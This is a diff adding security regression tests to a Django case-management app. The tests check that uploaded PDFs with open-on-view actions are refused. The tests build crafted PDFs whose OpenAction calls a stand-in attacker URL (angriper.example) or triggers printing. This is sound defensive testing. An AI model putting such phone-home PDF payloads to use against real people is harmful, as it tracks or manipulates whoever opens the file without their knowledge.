@@ -1,13 +1,20 @@
 """What the red-team pass of issue 11 (docs/security.md) found getting through, each as the
 attacker or careless user met it: every test here failed on the code before its fix."""
 import datetime
+import io
 
+import pikepdf
 import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
 
 from alnaaktiv.actor import Actor
 from cases.csvimport import ImportRefused
 from cases.participant_import import import_participants
 from cases.registers import import_registers
+from conditions import services as conditions_services
+from conditions.models import Dokumentasjon
+from tests import conditions_data
 from tests.extracts import arena_csv, arena_row, fnr_born, oskar_csv, oskar_row
 
 AS_OF = datetime.date(2026, 1, 1)
@@ -62,3 +69,46 @@ def test_ordinary_bad_values_are_still_shown_so_the_user_can_correct_them(alna):
         import_registers(office=alna, as_of=AS_OF, oskar=oskar_csv([oskar_row("S1", fnr_born(), antall_barn="31")]),
                          actor=Actor.operator())
     assert refused.value.errors == ["linje 2: antall_barn må være mellom 0 og 30, ikke 31"]
+
+
+# --- a PDF that does something the moment it is opened ---------------------------------------------
+
+def _pdf_opening_with(action_type: str | None, **fields) -> bytes:
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    if action_type:
+        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(action_type), **fields)
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+@pytest.fixture
+def open_vilkar(alna, users, settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+    return conditions_data.vedtak(conditions_data.sak(alna), users["vedtak"]).vilkar.get()
+
+
+def _upload(vilkar, user, content: bytes):
+    return conditions_services.dokumentasjon_register(
+        vilkar=vilkar, actor=Actor.for_user(user), type="husleie", mottatt=conditions_data.TODAY,
+        fil=SimpleUploadedFile("kvittering.pdf", content))
+
+
+@pytest.mark.parametrize("action", [
+    {"action_type": "/URI", "URI": pikepdf.String("https://angriper.example/?apnet")},  # phones home on opening
+    {"action_type": "/Named", "N": pikepdf.Name.Print},
+    {"action_type": "/GoTo", "D": pikepdf.Array([0, pikepdf.Name.Fit]),
+     "Next": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://angriper.example/"))},
+], ids=["uri", "named-print", "goto-then-uri"])
+def test_a_pdf_that_runs_an_action_when_opened_is_refused(open_vilkar, users, action):
+    with pytest.raises(ValidationError) as refused:
+        _upload(open_vilkar, users["vedtak"], _pdf_opening_with(**action))
+    assert "PDF-filen inneholder skript, handlinger eller vedlegg" in " ".join(refused.value.messages)
+    assert not Dokumentasjon.objects.exists()
+
+
+def test_a_pdf_that_only_opens_at_a_page_is_accepted(open_vilkar, users):
+    _upload(open_vilkar, users["vedtak"], _pdf_opening_with("/GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit])))
+    _upload(open_vilkar, users["vedtak"], _pdf_opening_with(None))
+    assert Dokumentasjon.objects.count() == 2
